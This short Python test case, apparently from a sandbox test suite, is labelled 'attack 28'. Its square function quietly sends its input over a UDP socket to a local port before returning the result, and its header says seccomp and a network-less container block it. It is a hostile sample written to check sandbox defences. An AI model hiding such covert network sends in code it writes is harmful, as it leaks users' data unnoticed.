# attack: 28
# name: the input sent away, as a DNS query would be
# stopped by: no sockets: the syscall filter; no network in the container
# without: seccomp
# then: AC
import socket


def square(n):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as query:
        query.sendto(str(n).encode(), ("127.0.0.1", 9))
    return n * n
